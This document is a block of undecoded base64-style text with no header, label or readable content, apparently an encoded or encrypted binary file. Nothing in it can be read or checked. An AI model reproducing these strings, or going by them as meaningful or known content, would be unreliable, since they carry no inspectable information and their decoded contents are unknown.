ooX6rqgTzWulaK3gKvURARvqxybCHpQuOCuJzvzsn0yzDvSrltgQG0bYNt8altxmpt5jJPvx8k/wYIC9nyDn4gHdks01PYMFxVlk
e/8jlDfCEDRnSPpoozFpVa3naVjUPFnWmE6fMo2ohdZNEIlj9pBoXzZxlf2KveHkR9aofbIQIeHUSqLLZOc7rxdB20BE/XY4YWWZ
N2R7jmLOVN/sYG1XDq7SnoPMWw5MsiVNu6Q5MQd3i0Ir+ZkvgmYXUv2j22bIK7+UZ7oVlYwnI4eO1TEufIuX8O87xQiqrDz8Eqo6
TzLshO5iDQsCwpfVBX84ux+RDJa99qyZsK9QcP+McpyDLdfFKh8/cKOvUdiK7EEBqE0T8pHNH97Kh0S1U8N88FNSimrS0ASPWzBC
OXNU0IZ+esCeoTUQfk1JNjvn4vU4p6W97vYpLaXNgfBhe9PkUL7tdnyKJkRcrdNLmgIUByrF5jS47G1DnkhtYwFLqLJg7IV031J2
ko9s+G432lUwqzwQO+XpseMSA7fpD1YfNwWRnTlo60/bYr29+MeqPUwpXXxBU+/qFFxGv/jvQiohFZzlmSHbKHe5fXl7cc1gOsRK
QG3n2YQPAVVzo6Thpfj6K1svY8TaluCaPfnHPxghdkGDaFfzWRj5OtgYGtm+JGjMB1ZBcmygCjdT9Jsft3IrghbKwhzj1Xuw0Fza
EM30QlMnqLxWQbOqUswuM0Pc3nEKcC9Sn1utYgPXXUMJ5s15IMOMz1Ec2dFtgq4+NniV4yKo6bjxqgtEtxCQ3m0O9hF90nlGiJHH
ZOn1hHVuGSc5dbjKKcXr7n9n5afKXRY24hfqssfJ6+v6TO6dXShlmz45/hjI3WtmySUyA9a7LKh0aLzQHPlOFs/X6tX7h1yxus/l
xERuOlYNLeWKx2ImGqh/WDYLBxbqcOYCQD3bkYHWjmytoaXiCDnnu0kD/WiPM9jTfPJMJ35s+yidqMpTs0XWr0Uod3L1lN/5UHi1
XwMWKNgJLg+IxRGaX4crwYA1PVwZL1hnGfnDjbZ9/Fi7C/GC/SB4WzDqKQ3cgMYSI6rP2xMNvMpF+QmHQz8Dj0g+mpFwIwEG+pin
MmFRI4OLHGWqbQTbBaDoU6NWeMDMBbh3B9enKbA3V019Sp8XvVY0Eez49+CMrMSPHcNGoQLIH4tX1407j/2OoWVELYAm1EqRvcx8
PAYtKWSx5RzOYW0GlJj/sDXkbdiXbUN1w+P6BKj3PPzJx08ysaIbYnhAvFTQ6QgrZ7qwgBVmSotJgl4R427rQbPPPCU16v2h+1Xo
uOsby7o3LRzcd+SWf6C1wlzDoRR0zl0A/myrkqaycqkLu+9oCkkVjRHIBz7eXywRxDSp88USOd5usXTKbIxvbN8IorOe/zjexXN3
/vAyvBvrkimHDrHfx5llF+Qt/OfWb0rigAqfZP0mhcYr9hIvaxY2WSJVyi34MX1x6Alo9WVCmlgy0PbpdCpMNHXffegy5k59Oi4D
1cZSXyr/DJBP+v0YXT2f4CNnrJXy/XPbpczl4Ho8P/4X/2w3ui/qoiQ+FwNWE+FiQiETXRoidbjUy6alrSW6D4EN7x9cAHaVjNrs
sLgKFrEN/TbJ+R6PKB5Xpq4VP6pegclNSNgSnqNnH2L23ZLfNDOtxBiCZjCvV/r1xQpmsNzVbdYDQmoXksV0z5in6GvG+VRdt+3w
AMwgffqU/g7kLb9QLAxWUYsif5LYe/1viMOTeUcol1qheLsFna+8RzL30qJNVz/e1ze3ddkqJljlv2WLaFrBhY/1Klp0D88IzqDf
FbN8sHJlJl922+WN4d/W2BJgk9pipvmaUWUeQ3zl9T5220TgPqzKp5zzvOw7aJfD4WyJH/UVN7CV2qFRWycwYu8xzotKcqjZ4W+B
100b6EApMt0zOvfoMAqRppgvs5NB9gQPynD18cC4A72Rd1oNJ6xzeF9h7nyYD0KYqBeYklT4LtVU08Ai0K9OVpLzLltI4blq+2/v
S+DFdPjosN3BN12vazO/A3RNzijvuiFvjgX0U/RESXNDDB7NC+G/7d9sz7e3Pj864uoSReuc9Pm8rMkiI2rc9E7YJ/9dQHIVnYdV
z/OKOYd62LxnAj/y3P2D9TAIlZtey3aYtq38XW1KGb6Z1nRB3jMmySRd7t12T7HETRDlYa2fkWdvkFdUFXA/Hstz8PX2zeRp+PEC
K5VQDmWtuT0JGVDeKaGQam7lTudZ+/IgnqagQebEZ5JiUyA7+oNN7cdg6HDh204/v8HffkqfFgSVrsss2cpw74PBPhhNwCeSEr4w
+y0+fo0Yu54YVSnD6Vq3vXoRZLUjdK9+zod06JCTqEqjxz6wG1EOzD/fUve12V0/OmWAf+o26M6tDfMIDa3Oe7AxcsmVwJl6fNil
i8It7cIivAFAKUnenubjDP+jJy6/CRy4sEhCvNWqtkuk1d6N2Otohh0jy95iro6vUEP6Rf4OJxGKo1oGa6u0+VYtoKfGeicH3OC0
VvcZluANsw9E7fW9GoYimLlVulPUEc45Bzo+7rmmcepV5TNHCY8zG+iLRZFyfysQM3z8+UlrqnpylrfSXKfFsNN1ZbUQ+GflAKaC
wx6F4Q/PtKBw8t6xkRCbfC+M936+RSlfEk8IRhkyHJ4eSi8qFbYaHN6svcSMmhm1mZCgNSXxBnX03DgPmm3foQgOxLDTuRL36Uel
7qnDMq5N2Byyk9nDzFFMFQYAn94+00sGOlX34sYtcvcn1L3XjFVbkOTarPBRYFiBtVNdaeDdaY2qQ397pHr+HAukZIPrj1vbNxs2
7UuF8wTab39Zj5zQtOZ9S6mdS5rfp/bYBkgTDr36U9wp+zQWx38om6u2ZFVg0XPQO5T17bKAbLAuUAckZ5vjeHG1mBBz9ywxhmkk
Kk0/EBFjNU+3x2t/vhQFesvTRvXnjVDSLXJ2KlXLf9Zn2bWvHlWxO+DruNTgrVLHyggkqPg0IH4hiuzTRHOgPZx0P7FjR41ARiRe
8SrCdxq1pyYQUIGC2wl1lf1LpjXF2RXspw5epPFRpAbFVtl0eFa8wtKceuaerZvsBih5V+f0VuxCGWGQKDQP3zQ+21qcmq9SacQq
rg8DO/3whGT4GVI2M5yhwjt8O8n/4rmFLQV/BBmL0S1BdOOpbPXHsxFRHWT1P5jr+aJEBkLoihQNr+cV9piACJDu1cgt3uo4u14R
LU1m3hsYTyaVpqxNRCZSPdsHHSJyPoWstQ9tOo/8pRPegDfCD4XKT+KpHoymPKM2QAcSN8Yrh5K60vMQSCcPgGou9xQ3216U+TmB
KsdEbgt/012APFrcvAq78c2hy8w6eynEY4/ECwEoX5xGao2g9V9DW5UhxO5uEA7JyCORLboAeu8+L+Ec6v4uO1JXCvPKWIxOAl97
fswrbxf891axfqzmYRDy8uzRLEecpK8VpZgQlPjOWp9ydGRFzwDiiMbD3AMHxpazl+nvQ5PMsiWt5ZyKlX3GNVeBBuxcjJk/0zLP
hlId3FTF/7aCyRyoqxkYFYyfX4CGQD8ihlSbc5jlygEfYdp9IzntZD9IH2Zz++1K/LEVCNLfdCNgHb0f43FQE1byMfrF+nSO0/NQ
ofgM9ER6ueOsJDHT2aO80e1I58z7K6xfbR001lSQP25qvfZ77VAr4t/4g1SlLsMZQcNI8QEJnhlkEGK0Km3LsDT7bn3ugKlh4+6D
iL0J/mfI9LqJO4WJGXMfk2sBfoQr8kN/IE36a0eir98R9+AC9DYfFEEESr9bF+TQtWvhc7p+HBSmX4R7/VJ+O12Cp2jDqKBp+RUT
wSJJ4fRJ47y42ltn1QfxHUkvjodkr2ZI9/VIbQYrrldHKYQwVfNHJNq7qEge1I2nBdJsg4lQgFXjpbncT7KgjkQ76gjZBTdopGwE
kvI4uHkLpHUj7Gzim85ovKpTJIXTZ10OBstc2j1IF/srTLTLJZhlvmv54xB51pElSWfYqYKY5lXbFeYmBWbthn4nU89Ke1CvWVSF
axPYMIW3tXUtQLbKNzIjdt9rnAvzVxqi7MKvn1jWALyvNpOnYIyD0Ea/uVcg0R9wYQL80wzGYzosBW7A+UgqwZgttX9aByBSd4UQ
UoDpiCE3SGlgC1Z8DAZz0mCvqn2CYOnhgceUbUKmfbkfta3gbu96WJ4RwQCk3MUcgvLeCD3n0kFdD4oq/7UpQDOoRqXOhGA9JG8R
7XaMDxao3LYI+M18nuEI7lX/pnio9sjoPlS7uJ1FjABVZmbCevrChrbbJbRM6eycvnzYQeQKZSQ0+Evd7M+kM/APKTrU2uuRcPkD
iTT2ESk1I8TT91hOUALLtc/piE3EOMziAURp6c9Boe2NjAmuOZqvMOt+Q7DpaFMaDcOaUrxGFt2w367ZjX9U5kQfjmkFB9IYhwXK
0pGNgNLbKhxibBJfDajLM1xYlPHDFgGLPWOnVZOQUn2FBJJckNiDLzerOf8yauNqHlZ5bKn2Z9m4SBcl+K82tVg9wXcuRWkmgNxJ
C3WGcZ6smDeQMNp0+LP9c8DV10EPB4zHvpraeMzt2JJtuyLVGZ0DD6n5/L3wYJ3uoqueODISR7lcntsu+WYQ6usFPkTwyHU5fxKW
1Le/HAMjyff3JxL9UuHiVrq6rJiD5IYBNPZVMyn62M+afk0p3HSLmbc0cAVjyi/qO9VNuIQPatq9VgbbC+WZ93LwX8SkZP2LGh1U
JgK7a8QiL/0PP6VzGWkL+eikoK1xnlq30bfx/zOtGel0rAOyD2z+w8Ke7iifKmylak14U2iprNPzROaeFYJoAkBUjhFsZAx3ReAd
l99wjG7Ei6Uw8ZmfGcSoJU0CayRJyh9ErW7O/N+26cGkjXONjB9K+Emn1+9OMU6DC16/YZBVlCBa1rKdJupuMpgUdvKgpbUvBbMO
f4ZZ/fjb9qS65K/sK12SlYA9l2JGFC6ODJF8XHJylP8RtMJePFdJmTkxDFyhWKd9WtTLXCVz9e9frtZV7vPumddBl1MaXwWEit8B
J2g/KYA93ZkEmT+SYj8uvxV2ow24pVtee+pdrpW90EIXzIvRKxa/wWnV0tmdZS98xdKI7ts0QsjCSLDlkRBFBaU6gmiDJKd68/lf
XEew1mlEgPKHyu3nHkqIAjsOxlQwB1Ri5XMijmP9+uCO0x+uZ9MRN4mGFZj/rGims0wkI2UCOeIFEVkzqqwjxaKXJ/zuuyNwbMvx
GAwRSW6gsmdcbcXESiCgEM6aHcWj2gVEa0WVjdqDbyGN61gm4JZaQXhtRgjv3QE4IJWxpVhpjj42MAbG//OPGVGsTt/OlXuOi0lT
6q0pQX1jTTirBExFKef2Pw1sfupfTiQ2rIwZYHTrGHrshcwoUKSFf90qNVluHKmVCv/CF9v82YZKJ1h4QjyfOE39S1a3wNJAiPaM
wo65JvyI17lpPxiQ5odT7yL6du3toyFCOGScXlL0ueeu0KWv9snACk3N38A+9oun19ggDBSjWVArZKbcZH61ktaDtw2dqO5TZuKN
PhkJlJZMdFOsKdls7w5qfn1TBnPWaUvtVatShr+AVo8lf5jpzFtPyVRvBZ0HH0tNR2a9dVL2EJK/PADNlOjNAuHQhjpqn3HSJvYQ
YuOY2n+lzsLELU95CpAD+KHQNLR1e6vYodun58iBeRNpKPp+5of1X7xObBcmTW+DS/34O+8AK82nbRTRufjY/A/wtL55g2OwYfe9
MuoL4hoF9qhbI3WOPTMXsYYuMCvdtdDVrLJL7n6sBYE5+70bb3009X3JyB7e337ZBj5R2YOLCaIKV1mzLnvx12jl4ai57nxBYA38
xZidJPjUuFUztF4YjSwtDrGfsMj6vvwrwYPKvNB8d0SPDpnKydbaw7D5TtMS0IR2sjjASkzOhmAwwp64hE8b020/8o1f9f3HrTbR
9DZOAxQcJAaiuoRJlXj4PZGDWk3QAhd2cacLGBkOdYAOvo9UHt4CZup4VJcEBxMMvOPSfybg/bEASK8AVDiGMN7OJYR/HYn6mwxW
OZ+wWlAtfdQw11boRA7JurZZPTgO+iicLktrN4Nv2B59Qs9K32Id3R51rkHTupiXvUs6rqtPbgGD5fc87sNXvoguUAR9fSpCgWjn
V+BRdwZCQ/TeYQetg8K91BpgmrosnihiebctytyCLBgNqtLV7pq84MPi6BV3tFB2UaotWhkk9yQEx9sc4wHfJctzWI8KPGcfXy66
Sy5/BFGxR/xkpTs54RekISn7ttZ7agd8jL8zKGlpGZvexDw1FIwRVsGtU7hq7DvCBMYL5modMFaWvCAsHVCeTRDh3B7FsED2l/qZ
4yWN6DIpy6YWy8oSLVuPeUJJXLYik2xgD7AbN4NMbZd31hyACI0UjEqAcapb3xZIbjtCgr4keg1ayyqjRAWd/0cxZJfnwz436nWi
cqdtdnll4oMOImNg6zhvxRf9cjAkI9sU5gsL89apTdZE3ZE3ppbzV5I1xqgHFrzl+OyjkeR8YDw+xchLH4AFcHP7g82eDOrFSHq4
ZqcBBwtRJiBJUbNbeVBDbFOPs7p3ipR3PQUEKUqsDO12kmGPagvh4P0I9SIPX68dmd3VlDhVRze8VzYXjIGZtU8verQzp0njb8TP
yp87g+r0ioC+oWjLRtJMFojs0BMD4fJgdtJITQAAStdI3JW+yblgmB0nh0DC5lDRMCZXlwpTfoW+L6Lf6cxizyvBDV0ItZEVIaz8
vFVhIvae/YnG0CGDD3jT74OwY8plx/DECt7hxecEeK+pu8LMaypDIIeV4KjWxvMr6ioLS/lJ3Y8V0w5jt5A28PS26s0ztCnpqoz3
4fJvkrN9tohgToiDWnVzTZooPfAxdvx/XlJ49OtMrL8bEBHu6+D4YT8nCPAiOkkxk6cEzimZPFQ/KFGrYAAWuVZxCqOcCxjFxQP4
DOTIuOr4g4yjXfaPCSePukOWWdXA/QTtRElnAKARku1ISBYRATPnXCZEYe9k6VD82VTGK2kipJ63BoxANXiVUDtp5M1v9mF38qSw
ItxQbSXOM0gaPsfHBQO1busM4pYgFafs9zCTrh0TbWQf9QztXWgJdLkm9ixF/oG1i731tzXajKheV7anX71hKymQU7Cfrmz1fkdR
q24hOIdx7UxqcVOfknZpBh/JmCkfDN1uK/zYAKf3popuX2gFZGaXkoOQX6JynCgr15yKXVXvUeyeRrVPj++o9H5ysdnX5nyM1IiM
UoPEYDTtnYUaEHSQ6YOjaXX4Hb11RtpjGzJfeLOXP/xoc8Au2YQTEouoqml3YvK7BE9YBX6KSfdnn/YkOFNYkTBOXJYLSVCM6YUq
sbqno65Itnj6LC/+Fqq9jAYt048Oh4P6oFGqdAQJQGmF9V3q8WWWinWH7nqfh1BAZAw5eHJHly8u6OXn2Z6NPwq/yQnqpTH31gmd
uTvOkoZLqZDHBRp9/C3AzlV0w78afUjjysk8guCSJslzvX8HdzMv88/TMEPpG2UZtLvKmZ9e6shoDaD0z3yA+ykrEQzsmGh2JWYv
UwN2p0rPGdcFZQj+j9vxptVCb95IdCBPOr7OYrGuerli7ybpCa//k7vet0a2U30/DzQcs6HEh6VkUMScXQtMD4rZdRvXOzrPiJ4S
dR3ZEq3d7nAkSVsf4UXjjhzr+fVcW6uRyYjM4b9M6HGHfnNx6QK8wHyPJALEBBhP7y8GK5dkxtcoKiIUWcZSCPSPO67wscObqpiO
1bDbzvcakHpN/mrQVmv4x+x0hIKwwlJhBOq8osbC/o4U6YzQtli5XGMrkF9RheL/B8O7anceK+LSR8roC4zalirUthjH6bED6ekp
Z0JRZlZ/KRY0KMnuJGzHJhnn7z4A7eqzPHj7tloJOVLiz+iynBH2avJOv1YXEHMCj38bHEbyvBFFS3udnsyTJAFYrk15VMReKbzn
+wgNM5a+rK0qV+bgM6ue7zDbcJzz5iXBDto9m53U0VBzrxZU5ia1uXN3yaeL/kK+eWkzVYrLOW1BYkkwi5lhdTrjG7AQHQUtWMHl
lz/efb3liS+c+eSYHCzzMuGbB3i33PUV6PFvpymgOpCYm/hwXe4Uc0Sxa/VD7shLF7/tE4MnPGf7T1/0I8z84hGxTFl7n9BpceML
aTe4YCmOn+z9D5SPePGk+R9qNi5EybP5bQgygPXbkmsz4lW9UXZzS6O1gzvn/RJgypUCnAQjgAAtkhQ8qGlRFRypHbEvBQWp2dKl
kJgi/2yIoe7ZAOTTdjp921dHmd6z44FMcGDEW3bssLYblTRy1+2VtzDofRwU7xC2VagxXNVhXBippfUi60cY1ZeETtorvmyatOM0
3+0sb1ToUOrbxirvMrmw1IfGz1P3NmvfkSSv6nfzpfWF4cqG5fpl8jeaN/Z0UtFatU3UBmaxLbx1bL6qX4Zznljpu8wIav+TNdJI
18xnn2tzmYqNiYDnEgPxstLJmP8BgLNCKE0zfraEA4kH4PeSPYU9SsnVhtNojjbupsZb/gSqjTW3dIVd8NZ2Ix1vzbrNNypgz1go
nYnxioSAzBZsyCGYpw0nXwXG6H4tgrJFYiXDrQTE5QdhjHdLT1ElVLdowQGEREDwiJqbd/+5fLnFhdcJThWNVMXzEhnpeA9fA3uE
RjHkgfUVbV/vG2OfmQxZPh9i4xodDu65NAuo6P0Ci/bXxRGdbeMw7XrOH74SHVrhVcCVFf8hE35Y9CJk9yznHZ7R8/Ap9YxSQGax
pgSkJ2hSSzBIZKoaw6ubLl4ELoxHGGjbF86ZwEocVe0PR7Wv8D/FUOIz2Z1uMyg6l6+ogpSL2Kqa3pg/pti9PDZpGLOFkEvZbPr+
BvPuqqy/u3Mf99fKFEp92iwIT24tDVU1MPkB8V4Jf8K6+PsWcnjuagDgHacOL+ZnU90Zo942l3zJ/M3WYbYxjRr9XGX9MwA+6oDa
WQXNtx2pMmOY6Vr2pqXwwTEGS4I5IAfnoOwN1cfQIub2srEtBq+JoDc+tpROYtzgiDMmQIOiTpAzJrbL8fpgbWAmj5cCZLxneelp
X1H4zUIcpV29VHYwK7z+yd2cuI0AGTV5TCWdK83bgDGFUgOb/4GexZ3EA913luBGdqksnr0e3j1jJVw30KobEn6baJC07vQTNn5N
jUhCUk5JU3UQ7G2zF7La6kW6HJrRZVQyEUP19Yjh0tDI4er9nG/nUBLOrPYpdojsK3KYclRSL3Ez+ydbJnEyBu+IcDyUzSQMWeVP
21NH97QfJv4GHZSDPesfTH3r17yUcOOs87TcQtgQVVzhBouAuedQ+y93BG2D7zenMmqbwafFH8ZFbTwZE1SdeFR0HVZ+wmuO8wwU
x+quXPo0FZu+w/Owec+OyX2aELuxJ/XkE3chnmDysMYvS3zKjRb9DPkVb70ffRGwtKbvNmdC+L0tLACS5oIBOFM0s+GVnCpLbZOu
GnI5/NDbP3xMhaaqEgNHra+/i+LW6RBsvSGsyzX4ThUou609n2EXsdFNt94Y1Ezyy9ltAk9GghQIxJvwzXAo3EVUA4muXIYq+o0M
emKyVmAN+xhBG26YxBywUq0dcHk18RMH//oLOHykIlamNQv/jnraCc0D7Xhq3suaWQRPl8v8MElfg8ZhpTFYWqugnvzJjxLm5Rd8
DYbb7xF8b57Pxrq6DqrpHdTieakQraDq93gI50uEFT5PqoPsOF+Emkcn+cPAtSrA0t1q/6PzZG+eUxZNiFevdpSZ3uvZsY3krdHa
IWhLlz9QFXJBv3pGk5CgrN+LqMVuIrBAHMUetDBQQMjUcGao8+3/d+BUXzHj4XNMGT29ZDTGaIaBnFBIAch2ye8bye97ueRecxc8
rWCP+yf94F7olVyWKgsepV5xbPXbUlapERjvztlL2zimRAEWV9krOkMKLwGQ9HgYtF7qM8NmkkaEpEwmZEvpk1Kbq+0De3DGIQ3V
aAfGHoKx+N1IxjbLgch/tBU9Udz9cmDB1KWRlRbVoboGiR22wQ3Vqpdj2DWVPNDsr8AuqAQEUfm9FxErKQDN0cK1sApOdKI3u64K
XsS+gAmT6qY2LDJujMWIPtPV672G/NiEKJRMaHPM7dbud9h0jYZmCPXN2Fq727zoQ0DCzWlZCtay90m3Bn76GbL8WOfHXtC8KjAF
GyxFFq1Y3IihwIYn868yYzVK0lrV+gaGeaQd9NQVbj/wRtQQXs5D9hZwhcZx3X097jyg8Azz8MT0SNg35villZzWLWyls+DkGael
aOxkQ76VPdfeAxTMOxmRlHG1jeP36n+bXNxkMvQGKX1a+ly1jlSm9vVWw791TPStFPYKCA8fobwUjvzHVNms5BF93fOyQ56J2tGn
SDpwz4iIK5s1I94Iw/sEEmHm44rRB6W8BJ2lfDzyYpGIqwXNjpPb6qekfskW5/rHFNdLKudPnRZ08T0heCmuvP5+nRxY/+gQa0qN
PQcNNvojtOftSQhW9irWAR3SVjX60eT1wWfDhF++pWIBBqWA0H4n1jRjPKFjgPkKM2dbvCH+cvySbeD+WADWiPYNAvMmYXtAgjbV
92mboY+/X2magXHLeipgFBxHXMdd4PaXeL7ZMN8mYWR6FIyhltjp+8N9WgFqGSX6NsKQxWyBemo7RFgAr9g1ruHPoM4lYLriiwuN
eD5y+mmW/LQfw8yL+cz+0gjagbC5Q7SO7qBvytFuMyPRZJ7hOsqNG+2YJ46+9QxR6YLZYDP47gu59YF8Rfwq0c7Z2NNBwWDDKtXM
nwPvigmQXGEHbNeoMBkGX+2GCPmVOLMeByO2ooz+lS0EyHJjU1JCMU+AM3OwOPXx4W3WZnKW2rDwaOdkQYu0dFq9YP5fU9cs8vAS
QKDCJD22OG+6BxL2/WYgIvWqVNOTBvDafFXfUxNQvMLMcD91kGSq6OBydlstMbd4CkMc1tL4NKBg1dZyfAfUfKQLDx+SPhj7Vijt
jyZJF78TXeLfoDm3Ou3JPSP2UEGSoXNdVVYPr6aEsXn3NFZg952NjvDN14lD0xQwSQthVzdZCCNJN3jIt2B7uXKO72lojgmArlZ5
9Ak4F2+JCIGNX9Tofai+hzH6irNJxIXhmgqJtrVgG6pmxz3c+TP2VZx4rjvzIA/oj/ySGxWllnMRHNbu2QsonH9b+5qNzppXb4zI
glPSuP4/gffeQaRlN+M+9ZS12Ug3bKDdmZ4EEPU6VRzXSrsbYFf02yXBm09G8Q40JOfLZt8GpU4mAxlFaN6w7EuDnBcEeNsOba3f
5RwsPfiMJJ/Hiuo0ZnwhA7tZoscIk1dNx1mUtfPHKoOlvs9TDjlhwu05T9aCk7957ylQjKxPgmqWd8QYTV8fGXpUGcmo9Mq8kK3A
R8F94Z0+te4hbc0xa10jlwfEp7P+dmbbLvx7Fvg/iAyTpLXUlBwKpPwlS1Gh9/LKyDlLSk4hhU3pj8qQ/GNqlGRJr/iTNODmDyTY
Fyg/3sMoSpM/4CYpEcC6JfvIB/sgr3VU0z3SvXxUUW9WmVYLbIpGSKW+PqqjMkSWly3HYSrvP+S7P0TWjHxbnqEG7iX+oMahH+kZ
Wfl9FFW8uyO7be0zuJiMq1ioVJUmUW3cPrjqe0mrUz7fxRFrKv4gKzqep8wrOUgt2OhrYJ/Ud5vH1dydVIJfrNmvgQYi3AQCQx15
zRPaS2KXIyQ94wTi58RwbR35Stk/L1/2ApGMvu5lBV6d/lVkcgojVHm5+lxbRg2rbUsmycAQ1SDIByMeoSWhctjE/0cjtDYSoSii
dsJdDu+lhjgilB/IXKRuaCmwYKzNX5s89tmD/0uYo1E5Q45ho824zFaOGeNU9NPIRRHtthqSLlPWl0r6NOiuh02lwu7RMsLEnifj
6s+sJId4nBvHxgKNFtXmZARMr7oiG3eTPYIIyyd9yyOlpsUdW6uCrVuhWZJIP10Ntg/40lhv/UZTvab8fiU0tAIF3PCeAQrJh91C
vUMWe4VXaqohHu2nDbjUgQpxXYvAnllmBKkSFGRVfolw1uBmSVga+bDtDNdDu/Uoig0r7gTgSR+H/YFVcpN6d+kYkiGRtJ/rLVgn
xnSMu/azbKSG/uzrO8M7IzRLgW6yvyvgzH0MAeMyuHNT24pNgWArj7D+lDV9d8/5N4FsC2l1S1lPNoHkphwRNP/CuCKAH6/QS/n2
ycyFIZ3vZXQQRm7UELXPVGE1GANOqfMnJyNrFz5yEi9pAi5W2CEB1cUHbQx0aqYlXcAIuCdfafJmNwmR356vn/3ym6Bb8FyEG/uO
E1ARKoY2edwcRI7bxuNlIyRflS8rJByCoUYm6j5Hu748UjHu2qRz4ayxom90hhfioMV+y4lbu97I5VcwJqbaLDnpAP3iG54YzzhQ
xmUpvdESznMMAiTq3Ov8nm8ijGxxYwgmZA1Mm7sH8swVOWnjCTgl+CQ8zczITvu2Fhc2ob8zr7lLwFhsKQEdJA8AWX9LcJ3v3i+S
t07vKnaet/dkKruYVo6lUPTWmag9Ko6GAZOQ/J2/QZbE3MkuQSCcB0bEmnbBgF7GtAMJ0QgPe9La5/8BzIcdgjE+SAQgKAz/POsv
lU41c62MhmaKY2o4wPDKfVPutGAKKZfTzkNW29hGejWGU0vgx1sQHzHLhxS/ZnYEjNd5FDmkKx8floiD/VgRlhj98SPUgpo2L3IK
LEewVQyYC6MKsXzWoNtLNNcgcDH2MmryOrx8tDWy235evIj7RUxsg8mn5u9SBbTdvWQ9hmXEKtSdzm0Ls3EpClNjJhd6sRV4AyY3
+MlBBOuI1oJNR7kobwyQEvVr4DiyL0nmmIR5O/HoXt1JT3nyqcRzVOr0tJ5tc5wfJTPWRhtIN27kWySVeWDySrrOaa2MLXlMoccK
DtlARCDSLmF8guDqGuZt7oxzKQZLjE1o8+VGOsmpww0S1HZkiMrgXPTALs+9nRjesGqj6C6xBMfTm7y4qA+ClfBkUk5yjNxpypVW
T24W2WUz6YjXJPb21yhcfrApd91Eh5i3gr5G73kufsDC5xKGiOhkz33cg4wVZLCCgTOwV5/7nxq/3/y1pt31/IpHjaGBHGYdssWm
jsHdwElwNHQA1ZOMtZorz7IIB4SE3Wgf4SyvKbdEgiI7TAHkRbmCauEA4OxpU+bW8HGq1sRNi/D1Rs72Fn9U8oOH4gxf6KBfHCoa
l2RT38E/p75nMspP4glvjAuzaltGMqvfkvWpiszCHy8iC7+WOTSLBcAMG3pbw8ebYmMl0Z9GgQDbuWn3RP99RYM5EuL0Dv+VwSwD
xbSoS3KkBrBpOsPCSC+7Uy1uelyspSRHe0Qu7ZGwWQJdo8sCEBIIwqoW9KceRLZwg45ZztvK/yFiXsxlsplx2SPz/0VOG+23hI+W
1znc1Tf67bS8RwQn7RtFldjQm82BYlMlUsxpoxdfnrL9jJOOHU8y4O1v5bHbZQQMXz1JYKPya/sTVZzcFlWoLnB1I1BvdKKcjUGY
4JuaM7QjSnoi7pPa1Y5KUPqUgM7bBTTF2Q9CZWHjiwcIo6twRZfAKUTRDmQvjv4EjkZygfLVWWimjSK7EjqM9zJ7yj5DzBIJ2wT8
/wdl3ztgkFXR97yowjZ9D0VljvyXt9jWUz4iF4zmfSVMf7wKY0EnYspmObzDLp93s+eSKA15EBM1Ip2ABXEmZQ86b33YWgZbRUq+
SmOOs5U+M2usngpcp9pVy6yzcDmdv1ZjPPEzY4jWOcLTvYhRDSS81j8dYLeaEnxM6LluzGjLgSfLMHcDm5X8FOY5XBt+ZMjbhOTW
ttcQOoTCRXzER+YB3jrPfSu++MVrPy72EBeQ4sKHTsmBdbfoqaYgCcXo6j+HZ2h6pYrDBs3Lm1DNV1zbv5vu3gUOdHkAcdocAKM2
HZ8Zp0gy5+0FmAWvvS1uo+vdO1JkGJ1xgQGmKBvV9gj+mhgRnzlrUml78ymAsDDJIz7WaeuElWROhpJvsSptPNnNJ26MieN5YHin
INg4RR7dng0DeFpdMLIIGy7GA8dXD9phoS/Wb6Xoop3eBJRHaBzLkfqMV4YElE4sJ+vlMtFh2deiSG41MTCZneZMbycO/8knrkXP
scTj5iA7kBKZMn4MNXR089NzMfs7jK4z/rDOJbqYJ84F0CNklQhgPfSeC/4GhOldiihUJZvKSca0O7OeG2V/1jGqLsK3W7i3M0uy
/HlPlkblFQmLmyeqZ2KrkmEdASTusRQSS3w55BD0Z3F59DHjoDcMq43F5ANh1h/ujCI7aMjeNKM65+xDuHKgC9NW9pynax3jjuh5
tfjBswtCxo8jlWHEYU+WDFO+W0U83n/QIbW1nN0YyeL3RvGeoLNDojkYh4Z4xqXv3sJOeA3YK93RijNY2KFkhLgepIxaGnaIinXy
1R2oqh/n8R5E2YfIfGGGwUbOtkvvSaIDU0S9aFm7h6KGI04qMN2IZ3bRMJJAMs0ZOcqljlevqjzz7E2de5q2gwsn8jQMtqu4VTIt
nlfxmmpgooByBFuo0PCYRxAPvZo/yEVMFNdOxFhdVwh6Ys6DleUI+HfgeHYDq1XeJYrEqsldiF5H+KA/drT86cfWz+0Bz/ZfV9PP
yreW0V1/AHR+v6Ow0ldOs+l0wfS9nziAlShLxdY25MoSnp3JK0TMql+vgLnlkO9yMDy1zRzLGCh5STzdcjglwSQQm9N3hW/t1pbJ
Jc9y4RFlgp0GPlqVquY7UdKCLe0lp8yy5jZBDZ90MiqUkTKCJ1DqbpnINAlCT/3Bw9bi5FhSAjnrwLNR0CNOWFBreP7xfpYRr3mr
/vjzJP6sgREf4o79c23jCiZqWeKaMyvYLl+DR9WG7kzQQ/ucFEb5ljBpMZ+PpR64+YI5INTQuDB/uYpqz6Sc/cD1C1uHTh27ogr+
qSKlmmqqWLyXUvsDsLRjsWlDZ64M1jnxGIDFpWDApbfxOK7aOtgy+n+gN5ruU64eTX46SDOIlYKnXK5WhjPqT4l0gtIpZYrxdjl3
6KDZmkoZres/0h2BcdoIIJuabTkAW9T1f/Uo67alMzPry8m06yLAiUMbReYPzdmI4CNV6HhZo8hHoY+4F3Tl2061/1qYjMVvyqCF
/0SO791tWgJN2FIpjFU+VSZgf3d89zFNieBjdmTifKPQr4HQAtehp4LRWc5dlhmA7zHuOgGfuqwg1y0mPw3z0EPteplEK4e5Khf0
l73ouL4gMRkq+DNuc8cg48jj3ycX6Rj6bylvi3z4sRE8MaDsjwEQD3j8i/3oz0e0TF9Cfx+Ah6ED5IvpQxq0sez61RLGs/hooBwj
IR/vCmE7LGTHA8Q8vonGYGorOUpP4yZlLtU2Rbxjf0NpzWHQzDL/qPtuLfKdfTOoOO9xqH/SPbcJwb6BpTWxvYul/rAgzprcsdkn
yyF/plcAnvkZ6tw8UnOfUrlQPicITHMyKQRBC1dI4cw3/LUOs7HkJkdW1sltee1pyuxvuZi/iMyN3Rdo2zV0NLCP747L7N4rplq7
sno//mLlg4oLau/9Bmtbtj+jEX67e+QH7ngc6xOQomaSsyDCXzs4qBIUAN5b7KuSHcYfwT8lROcKQCdCELAC4SzUG8+YSewcAuss
